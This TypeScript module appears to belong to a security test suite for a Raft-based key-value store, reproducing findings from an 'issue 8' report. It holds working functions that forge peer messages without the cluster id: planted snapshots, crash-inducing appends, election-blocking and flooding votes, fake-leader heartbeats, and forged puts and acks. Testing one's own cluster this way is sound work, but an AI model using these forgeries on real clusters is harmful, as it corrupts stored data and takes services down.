/**
 * Forged peer messages (issue 8, section 1): each function speaks to a node's Raft service as if it were
 * another member, without the cluster id, and returns what the node answered. Messages are encoded with
 * the project's own codec (src/codec) so they are well-formed wherever the finding needs them to be; the
 * snapshot data uses the state machine's own chunk format (src/kv/snapshot-chunk.ts).
 *
 * A sealed node refuses the call (UNAUTHENTICATED / PERMISSION_DENIED) or drops the messages; an open one
 * takes the stream (answer OK) and acts on them. What the forgery did to the cluster is for the caller to
 * check (planted keys, crashed nodes, leadership): the answer alone cannot show a silent drop.
 */
import type * as grpc from '@grpc/grpc-js';
import type { Entry, Message } from '../../src/raft';
import { encodeCommand, encodeRaftMessage, encodeValueRecord } from '../../src/codec';
import { encodeChunk, ITEM_DATA } from '../../src/kv/snapshot-chunk';
import type { ClusterView, NodeDoor } from './cluster-view';
import { bidiStream, clientStream, decode, encode, peerMetadata, type Answer } from './wire';

/** Highest term the forgeries use for the "term past the safe range" finding (2^53 - 2). */
export const TERM_NEAR_UNSAFE = 2 ** 53 - 2;
/** The node id of the leader that does not exist. */
export const FAKE_LEADER_ID = 99;
/** Keys planted by forgeries: they must never be readable. */
export const PLANTED_PREFIX = 'hostile/planted/';

export interface PeerAttackOptions {
  /** Send the forged handshake headers (a random cluster id) instead of none. Default true. */
  handshake?: boolean;
  /** The cluster id to put in the handshake (one the attacker stole); default a random guess. */
  clusterId?: string;
  /** Replay these handshake headers (captured from a member that dialed the attacker) instead of forging. */
  replay?: grpc.Metadata;
  /** How long the stream stays open after the last message. Default 300 ms. */
  holdMs?: number;
}

const peerDoor = (d: NodeDoor): string => d.peerAddress ?? d.clientAddress;

/** Sends forged messages claiming to come from `from`, on one Raft.Stream call. */
export async function sendForged(
  target: NodeDoor,
  from: number,
  view: ClusterView,
  messages: Message[],
  opts: PeerAttackOptions & { gapMs?: number; perBatch?: number } = {},
): Promise<Answer> {
  const perBatch = opts.perBatch ?? messages.length;
  const batches: Buffer[] = [];
  for (let i = 0; i < messages.length; i += Math.max(1, perBatch)) {
    const slice = messages.slice(i, i + Math.max(1, perBatch));
    batches.push(
      encode('MessageBatch', {
        from,
        to: target.id,
        messages: slice.map((m) => encodeRaftMessage({ groupId: view.groupId, message: m })),
      }),
    );
  }
  const fromDoor = view.members.find((m) => m.id === from)?.address ?? target.clientAddress;
  const md =
    opts.replay ??
    (opts.handshake === false
      ? peerMetadata(null)
      : peerMetadata({ nodeId: from, to: target.id, clientAddress: fromDoor, clusterId: opts.clusterId }));
  const holdMs = opts.holdMs ?? 300;
  const r = await bidiStream(peerDoor(target), '/tessera.v1.Raft/Stream', batches, {
    holdMs,
    gapMs: opts.gapMs,
    md,
    timeoutMs: holdMs + (opts.gapMs ?? 0) * batches.length + 3000,
  });
  return r.answer;
}

/** Sends raw (undecodable) message bytes in a well-formed MessageBatch. */
export async function sendRawPeerBytes(
  target: NodeDoor,
  from: number,
  payloads: Buffer[],
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const batch = encode('MessageBatch', { from, to: target.id, messages: payloads });
  const md =
    opts.handshake === false
      ? peerMetadata(null)
      : peerMetadata({ nodeId: from, to: target.id, clientAddress: target.clientAddress, clusterId: opts.clusterId });
  return (
    await bidiStream(peerDoor(target), '/tessera.v1.Raft/Stream', [batch], {
      holdMs: opts.holdMs ?? 300,
      md,
      timeoutMs: 4000,
    })
  ).answer;
}

function lastIndexOf(view: ClusterView, id: number): number {
  return view.nodes.get(id)?.lastIndex ?? 0;
}

function config(view: ClusterView): { voters: number[]; learners: number[]; votersOutgoing: number[] } {
  return { voters: [...view.voters], learners: [], votersOutgoing: [] };
}

/** A member other than `target` to speak as: the leader for a follower, some follower for the leader. */
export function impersonate(view: ClusterView, target: number): number {
  if (view.leader !== null && view.leader !== target) return view.leader;
  return view.voters.find((v) => v !== target) ?? FAKE_LEADER_ID;
}

/**
 * Finding: a forged InstallSnapshot from "the leader" with a higher term and one planted key replaced
 * the follower's data. Returns the answer plus the SnapshotAck's verdict in `detail`.
 */
export async function forgedInstallSnapshot(
  target: NodeDoor,
  view: ClusterView,
  plantedKey: string,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const from = impersonate(view, target.id);
  const term = view.term + 1;
  const index = lastIndexOf(view, target.id) + 100;
  const message: Message = {
    type: 'snapshot',
    from,
    to: target.id,
    term,
    snapshot: { meta: { index, term, config: config(view) }, data: Buffer.alloc(0) },
  };
  const header = encodeRaftMessage({ groupId: view.groupId, message });
  const data = encodeChunk({
    seq: 0,
    applied: index,
    done: true,
    itemCount: 1,
    items: [
      {
        kind: ITEM_DATA,
        key: Buffer.from(plantedKey),
        value: encodeValueRecord(Buffer.from(plantedKey), Buffer.from('planted')),
      },
    ],
  });
  const chunk = encode('SnapshotChunk', { from, to: target.id, groupId: view.groupId, header, data, last: true });
  const md =
    opts.replay ??
    (opts.handshake === false
      ? peerMetadata(null)
      : peerMetadata({ nodeId: from, to: target.id, clientAddress: target.clientAddress, clusterId: opts.clusterId }));
  const r = await clientStream(peerDoor(target), '/tessera.v1.Raft/InstallSnapshot', [chunk], 5000, md);
  if (r.answer.code !== 'OK' || !r.response) return r.answer;
  const ack = decode<{ accepted: boolean; error: string }>('SnapshotAck', r.response);
  return { code: 'OK', detail: ack.accepted ? 'snapshot accepted' : `snapshot refused: ${ack.error}` };
}

/** An append from `from` at term `term` that continues the target's log at its last index. */
function appendAfter(
  view: ClusterView,
  target: number,
  from: number,
  term: number,
  entries: (index: number) => Entry[],
): Message {
  const last = lastIndexOf(view, target);
  const es = entries(last);
  const top = es.length ? es[es.length - 1]!.index : last;
  return {
    type: 'append',
    from,
    to: target,
    term,
    prevLogIndex: last,
    prevLogTerm: view.term,
    entries: es,
    commit: top,
  };
}

/** Finding: an append whose entry the state machine cannot decode crashed the follower. */
export function forgedUndecodableAppend(
  target: NodeDoor,
  view: ClusterView,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const from = impersonate(view, target.id);
  const term = view.term + 1;
  // 0xc1 is the one byte msgpack never uses: no decoder accepts it.
  const m = appendAfter(view, target.id, from, term, (last) => [
    { kind: 'normal', term, index: last + 1, data: Buffer.from([0xc1, 0xc1, 0xc1]) },
  ]);
  return sendForged(target, from, view, [m], opts);
}

/** Finding: an append with a gap in its indexes killed the node (invariant assertion). */
export function forgedGapAppend(target: NodeDoor, view: ClusterView, opts: PeerAttackOptions = {}): Promise<Answer> {
  const from = impersonate(view, target.id);
  const term = view.term + 1;
  const noop = encodeCommand({ type: 'noop' });
  const m = appendAfter(view, target.id, from, term, (last) => [
    { kind: 'normal', term, index: last + 1, data: noop },
    { kind: 'normal', term, index: last + 3, data: noop },
  ]);
  return sendForged(target, from, view, [m], opts);
}

/** Finding: an append ack for an index beyond the leader's log killed the leader. */
export function forgedAckBeyondLog(target: NodeDoor, view: ClusterView, opts: PeerAttackOptions = {}): Promise<Answer> {
  const from = impersonate(view, target.id);
  const index = lastIndexOf(view, target.id) + 1000;
  return sendForged(
    target,
    from,
    view,
    [
      {
        type: 'appendResp',
        from,
        to: target.id,
        term: view.nodes.get(target.id)?.term ?? view.term,
        reject: false,
        index,
        rejectHint: 0,
        hintTerm: 0,
      },
    ],
    opts,
  );
}

/** Finding: a snapshot message on the message stream (not InstallSnapshot) made the node fatal. */
export function forgedSnapshotOnStream(
  target: NodeDoor,
  view: ClusterView,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const from = impersonate(view, target.id);
  const term = view.term + 1;
  const index = lastIndexOf(view, target.id) + 10;
  const m: Message = {
    type: 'snapshot',
    from,
    to: target.id,
    term,
    snapshot: { meta: { index, term, config: config(view) }, data: Buffer.from('no-such-staging-id') },
  };
  return sendForged(target, from, view, [m], opts);
}

/** Finding: one vote request with term 2^53-2 left the cluster unable to elect again. */
export function forgedVoteNearUnsafeTerm(
  target: NodeDoor,
  view: ClusterView,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const from = impersonate(view, target.id);
  const m: Message = {
    type: 'vote',
    from,
    to: target.id,
    term: TERM_NEAR_UNSAFE,
    lastLogIndex: TERM_NEAR_UNSAFE,
    lastLogTerm: TERM_NEAR_UNSAFE,
    transfer: true,
  };
  return sendForged(target, from, view, [m], opts);
}

/** Finding: forged votes with high terms forced elections; a flood kept writes failing for seconds. */
export function forgedVoteFlood(
  target: NodeDoor,
  view: ClusterView,
  count: number,
  durationMs: number,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  // One claimed sender per stream (the handshake names one node).
  const from = impersonate(view, target.id);
  const messages: Message[] = [];
  for (let i = 0; i < count; i++) {
    const term = view.term + 1 + i;
    messages.push({
      type: 'vote',
      from,
      to: target.id,
      term,
      lastLogIndex: 2 ** 40,
      lastLogTerm: term,
      transfer: i % 2 === 0,
    });
  }
  const batches = 20;
  return sendForged(target, from, view, messages, {
    ...opts,
    perBatch: Math.ceil(count / batches),
    gapMs: Math.floor(durationMs / batches),
  });
}

/** Finding: heartbeats from a leader that does not exist (id 99) made followers follow it. */
export function forgedFakeLeaderHeartbeats(
  target: NodeDoor,
  view: ClusterView,
  count: number,
  intervalMs: number,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const term = view.term + 1;
  const messages: Message[] = [];
  for (let i = 0; i < count; i++)
    messages.push({ type: 'heartbeat', from: FAKE_LEADER_ID, to: target.id, term, commit: 0, context: 0 });
  return sendForged(target, FAKE_LEADER_ID, view, messages, { ...opts, perBatch: 1, gapMs: intervalMs });
}

/** Finding: a forged TimeoutNow moved leadership. */
export function forgedTimeoutNow(target: NodeDoor, view: ClusterView, opts: PeerAttackOptions = {}): Promise<Answer> {
  const from = impersonate(view, target.id);
  return sendForged(
    target,
    from,
    view,
    [{ type: 'timeoutNow', from, to: target.id, term: view.nodes.get(target.id)?.term ?? view.term }],
    opts,
  );
}

/**
 * Finding: forged append acks let a leader commit while both followers were paused. Acks `index` (the
 * leader's last index when the caller read it) from every other voter, `rounds` times.
 */
export async function forgedAppendAcks(
  target: NodeDoor,
  view: ClusterView,
  index: () => Promise<number>,
  rounds: number,
  intervalMs: number,
  opts: PeerAttackOptions = {},
): Promise<Answer[]> {
  const others = view.voters.filter((v) => v !== target.id);
  const term = view.nodes.get(target.id)?.term ?? view.term;
  const out: Answer[] = [];
  for (let r = 0; r < rounds; r++) {
    const at = await index();
    const answers = await Promise.all(
      others.map((from) =>
        sendForged(
          target,
          from,
          view,
          [{ type: 'appendResp', from, to: target.id, term, reject: false, index: at, rejectHint: 0, hintTerm: 0 }],
          { ...opts, holdMs: 50 },
        ),
      ),
    );
    out.push(...answers);
    await new Promise((res) => setTimeout(res, intervalMs));
  }
  return out;
}

/** Finding: a forged append carrying a put was committed and applied on all nodes, past every KV check. */
export function forgedPutAppend(
  target: NodeDoor,
  view: ClusterView,
  plantedKey: string,
  opts: PeerAttackOptions = {},
): Promise<Answer> {
  const from = impersonate(view, target.id);
  const term = view.term + 1;
  const data = encodeCommand({
    type: 'put',
    key: Buffer.from(plantedKey),
    value: Buffer.from('planted'),
    session: null,
  });
  const m = appendAfter(view, target.id, from, term, (last) => [{ kind: 'normal', term, index: last + 1, data }]);
  return sendForged(target, from, view, [m], opts);
}
